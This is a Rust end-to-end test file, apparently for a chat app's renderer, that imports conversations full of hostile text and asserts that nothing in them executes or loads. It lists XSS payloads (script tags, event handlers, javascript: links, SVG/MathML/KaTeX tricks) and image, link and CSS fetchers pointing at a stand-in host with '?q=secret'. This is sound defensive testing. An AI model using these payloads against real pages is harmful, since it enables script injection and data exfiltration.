//! The abuse cases of GUARDRAILS.md B that concern the page, by their number, in the renderers that
//! people have: WebKitGTK in the window and Chromium at the port. What is drawn is a conversation
//! whose every text is hostile; a listener stands where all of it points to.

mod diagrams;
mod keys;
mod links;

use std::{thread, time::Duration};

use serde_json::{Value, json};

use crate::support::{
    Home, Serve, Session,
    page::{FIELD, Page},
    trap::Trap,
    ui, wait,
};

/// No such host is ever looked up by a browser of its own accord.
const HOST: &str = "zyxabuse.example";
const CONVERSATION: &str = "01900000-0000-7000-8000-000000000010";
/// Bytes from which on a text is a matter of size and not of what it says.
const LONG: usize = 100_000;
/// As much time as a request would take that should not be made; none is measured by it.
const LULL: Duration = Duration::from_millis(1500);

/// A page with a conversation that holds these texts as answers, open.
fn in_browser(texts: &[String], trap: &Trap, look: impl Fn(&Page, &Serve)) {
    let home = Home::new();
    ui::settle(&home);
    let serve = Serve::start(&home, &["--ui"]);
    let proxy = format!("--proxy-server={}", trap.address);
    let driver = ui::open_browser_with(&home, serve.ui_url.as_deref().unwrap(), &[&proxy]);
    let page = Page::of_browser(&driver);
    show(&page, texts);
    look(&page, &serve);
    ui::assert_clean(&driver, &[&serve.sign_in_token()]);
}

/// The same in the window.
fn in_window(texts: &[String], look: impl Fn(&Page, &Session)) {
    let session = Session::new();
    ui::settle(&session.home);
    let driver = ui::open_window(&session);
    let page = Page::of_window(&driver, &session);
    show(&page, texts);
    look(&page, &session);
    ui::assert_clean(&driver, &[]);
}

/// Takes a conversation in and opens it.
fn show(page: &Page, texts: &[String]) {
    page.shows(FIELD);
    ui::watch_policy(page.driver);
    let file = conversation(texts);
    let report = page.rpc("conversation_import", &json!({ "text": file.to_string() }));
    assert_eq!(report["conversations"], json!(1), "{report}");
    page.click(&format!("[data-row=\"{CONVERSATION}\"]"));
    page.shows(&format!("[data-conversation=\"{CONVERSATION}\"] [data-role=\"assistant\"]"));
    page.rests();
}

/// Questions and answers of the same hostile texts, one after the other.
fn conversation(texts: &[String]) -> Value {
    let id = |number: usize| format!("01900000-0000-7000-8000-{number:012}");
    let message = |number: usize, role: &str, content: &str| {
        json!({
            "id": id(100 + number), "parent": (number > 0).then(|| id(99 + number)), "role": role,
            "content": content, "status": "complete", "created": 1_000 + number,
            "reasoning": if role == "assistant" { asked(content) } else { "" },
        })
    };
    let messages: Vec<_> = texts
        .iter()
        .flat_map(|text| [("user", asked(text)), ("assistant", text.as_str())])
        .enumerate()
        .map(|(number, (role, text))| message(number, role, text))
        .collect();
    json!({
        "format": "hearth", "version": 1, "exported": 5, "folders": [],
        "conversations": [{
            "id": CONVERSATION, "title": "<img src=x onerror=window.hit=1> title",
            "head": messages.last().expect("a text")["id"], "created": 1_000, "updated": 2_000,
            "messages": messages,
        }],
    })
}

/// The question to an answer: the same text, unless that is so long that once is enough.
fn asked(answer: &str) -> &str {
    if answer.len() > LONG { "Go on." } else { answer }
}

/// Texts that would run a script if anything took them for markup.
fn scripts() -> Vec<String> {
    let payloads = [
        "<script>window.hit = 1</script>",
        "<img src=x onerror=\"window.hit = 1\">",
        "<svg onload=\"window.hit = 1\"><animate onbegin=\"window.hit = 1\" attributeName=x dur=1s>",
        "<details open ontoggle=\"window.hit = 1\"><summary>x</summary></details>",
        "<a href=\"jav&#x09;ascript:window.hit=1\">x</a>",
        "<iframe srcdoc=\"<script>parent.hit = 1</script>\"></iframe>",
        "[x](javascript:window.hit=1 \"onmouseover=window.hit=1\")",
        "$\\href{javascript:window.hit=1}{x}$",
        "<math><maction actiontype=\"statusline#javascript:window.hit=1\">x</maction></math>",
    ];
    let places = |payload: &str| {
        let bare = payload.replace('|', "");
        format!(
            "{payload}\n\n# {payload}\n\n- [ ] {payload}\n\n> {payload}\n\n| {bare} |\n|---|\n\
             | {bare} |\n\nx[^1]\n\n[^1]: {payload}\n\n**{payload}**\n\n`{payload}`\n\n\
             ```html\n{payload}\n```"
        )
    };
    payloads.iter().map(|payload| places(payload)).collect()
}

/// Texts that would fetch something from a host, in every way there is.
fn fetchers(host: &str) -> Vec<String> {
    let forms = [
        "![a](http://@/a.png?q=secret)",
        "![b][1]\n\n[1]: http://@/b.png",
        "<img src=\"http://@/c.png\" srcset=\"http://@/d.png 2x\">",
        "<picture><source srcset=\"http://@/e.webp\"><img src=\"http://@/f.png\"></picture>",
        "<link rel=\"prefetch\" href=\"http://@/g\"><link rel=\"preload\" as=\"image\" href=\"http://@/h\">",
        "<link rel=\"icon\" href=\"http://@/i.ico\"><link rel=\"stylesheet\" href=\"http://@/j.css\">",
        "<link rel=\"dns-prefetch\" href=\"//@/\"><link rel=\"preconnect\" href=\"http://@/\">",
        "<div style=\"background:url(http://@/k)\">x</div><style>@import url(http://@/l);</style>",
        "<svg><image href=\"http://@/m.svg\"/><use href=\"http://@/n.svg#x\"/></svg>",
        "<video poster=\"http://@/o.png\" src=\"http://@/p.mp4\"></video><audio src=\"http://@/q\"></audio>",
        "<object data=\"http://@/r\"></object><embed src=\"http://@/s\"><iframe src=\"http://@/t\"></iframe>",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://@/u\"><base href=\"http://@/\">",
        "<form action=\"http://@/v\"><input autofocus onfocus=\"this.form.submit()\"></form>",
        "<script src=\"http://@/w.js\"></script><script>fetch('http://@/x')</script>",
        "$\\includegraphics{http://@/y.png}$ and `![z](http://@/z.png)`",
        "http://@/bare <http://@/auto> [text](http://@/link)",
        "```html\n<img src=\"http://@/code.png\">\n```",
    ];
    forms.iter().map(|form| form.replace('@', host)).collect()
}

/// What no text of a conversation may ever become.
fn assert_inert(page: &Page) {
    let script = "return [...document.querySelectorAll(`
        [data-message] :is(script, img, picture, source, video, audio, object, embed, iframe, form,
            style, link, meta, base, image, use, animate, a[href], [srcset], [poster], [background])`)]
        .map((one) => one.outerHTML.slice(0, 200))";
    assert_eq!(page.driver.script(script, &[]), json!([]), "markup of a text became elements");
    let script = "return [...document.querySelectorAll('[data-message] *')].flatMap((one) =>
        [...one.attributes].map(({ name }) => name).filter((name) => /^on/.test(name)))";
    assert_eq!(page.driver.script(script, &[]), json!([]), "a handler came from a text");
    assert_eq!(page.driver.script("return window.hit ?? null", &[]), Value::Null, "it ran");
    let title = page.driver.script("return document.title", &[]);
    assert!(title.as_str().unwrap_or_default().contains("<img src=x"), "{title}");
}

/// Shows all there is to see, and gives whatever would be fetched its time.
fn look_through(page: &Page) {
    let script = "const done = arguments[arguments.length - 1];
        const log = document.querySelector('[role=\"log\"]');
        for (const one of document.querySelectorAll('[data-message] summary')) one.click();
        const most = 150;
        const stride = Math.max(log.clientHeight / 2, log.scrollHeight / most);
        let at = 0;
        const step = () => {
            log.scrollTop = at;
            at += stride;
            if (at < log.scrollHeight) setTimeout(step, 30);
            else done(true);
        };
        step();";
    page.driver.async_script(script, &[]);
    thread::sleep(LULL);
}

#[test]
fn ac_29_scripts_in_a_conversation_do_not_run_in_the_browser() {
    in_browser(&scripts(), &Trap::set(), |page, _| {
        look_through(page);
        assert_inert(page);
    });
}

#[test]
fn ac_29_scripts_in_a_conversation_do_not_run_in_the_window() {
    in_window(&scripts(), |page, _| {
        look_through(page);
        assert_inert(page);
    });
}

#[test]
fn ac_31_nothing_loads_by_itself_in_the_browser() {
    let trap = Trap::set();
    let mut texts = fetchers(HOST);
    texts.extend(fetchers(&trap.address));
    in_browser(&texts, &trap, |page, _| {
        look_through(page);
        assert_inert(page);
        assert_eq!(trap.heard(&[HOST, "secret", "/bare"]), Vec::<String>::new());
        // The proxy is in the way of everything that would leave, and it does hear.
        page.driver.script("new Image().src = `http://${arguments[0]}/control`", &[json!(HOST)]);
        thread::sleep(LULL);
        assert_eq!(trap.heard(&[HOST]), Vec::<String>::new(), "the policy of the page held");
        let blocked = page.driver.script("return window.violations.splice(0).length", &[]);
        assert_eq!(blocked, json!(1), "the policy of the page said so");
    });
    assert_eq!(trap.heard(&[HOST, &trap.address]), Vec::<String>::new());
}

#[test]
fn ac_31_the_listener_of_these_tests_hears_a_browser() {
    let (home, trap) = (Home::new(), Trap::set());
    let proxy = format!("--proxy-server={}", trap.address);
    let driver = ui::open_browser_with(&home, "about:blank", &[&proxy]);
    driver.go(&format!("http://{HOST}/control"));
    wait::until("the request", || (!trap.heard(&[HOST]).is_empty()).then_some(()));
}

#[test]
fn ac_31_nothing_loads_by_itself_in_the_window() {
    let trap = Trap::set();
    in_window(&fetchers(&trap.address), |page, _| {
        look_through(page);
        assert_inert(page);
    });
    assert_eq!(trap.heard(&[""]), Vec::<String>::new(), "nothing came at all");
}

#[test]
fn ac_36_what_draws_takes_no_command_and_gives_up_on_what_is_too_large() {
    let deep = format!("$${}x{}$$", "\\frac{1}{".repeat(400), "}".repeat(400));
    let formulas = "$\\href{javascript:window.hit=1}{x}$ $\\url{http://zyxabuse.example}$ \
        $\\htmlData{x=1}{y}$ $\\htmlId{a}{y}$"
        .to_owned();
    let line = format!("```js\n{}\n```", "let a = 1; ".repeat(320_000));
    let diagram = format!("```mermaid\ngraph TD; {}\n```", "A-->B; ".repeat(4000));
    in_window(&[deep, formulas, line, diagram], |page, _| {
        page.click("[data-turn]:last-child [data-role=\"assistant\"] .code .head button");
        page.shows("[role=\"alert\"]");
        assert!(!page.has("iframe"), "a diagram of this size is not even tried");
        look_through(page);
        assert_eq!(page.driver.script("return window.hit ?? null", &[]), Value::Null);
        let script = "return document.querySelectorAll(
            '[data-message] math :is([href], [id], [data-x], [style])').length";
        assert_eq!(page.driver.script(script, &[]), json!(0), "a formula has no way out");
        // The page still takes keys.
        page.click(FIELD);
        page.write("still here");
        let value = "return document.querySelector(arguments[0]).value";
        assert_eq!(page.driver.script(value, &[json!(FIELD)]), json!("still here"));
    });
}
